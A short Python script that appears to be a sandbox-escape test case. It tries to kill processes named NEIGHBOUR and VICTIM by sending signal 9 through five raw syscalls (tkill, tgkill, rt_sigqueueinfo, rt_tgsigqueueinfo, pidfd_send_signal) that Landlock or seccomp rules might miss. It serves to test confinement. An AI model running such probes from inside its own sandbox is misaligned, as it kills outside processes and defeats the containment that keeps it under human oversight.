"""Sends signals by the calls that a wall could have forgotten: to threads, queued, by descriptor.

stopped by: Landlock: signals stay inside; seccomp: tkill, pidfd_open, pidfd_send_signal
prize: signal sent
without walls: works
"""
# %%
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
info = ctypes.create_string_buffer((10).to_bytes(4, "little") + bytes(124))
for process in (NEIGHBOUR, VICTIM):
    for number, *arguments in (
        (200, process, 9),  # tkill
        (234, process, process, 9),  # tgkill
        (129, process, 9, info),  # rt_sigqueueinfo
        (297, process, process, 9, info),  # rt_tgsigqueueinfo
        (424, libc.syscall(434, process, 0), 9, None, 0),  # pidfd_send_signal
    ):
        if libc.syscall(number, *arguments) == 0:
            print("signal", "sent")
        print(os.strerror(ctypes.get_errno()))
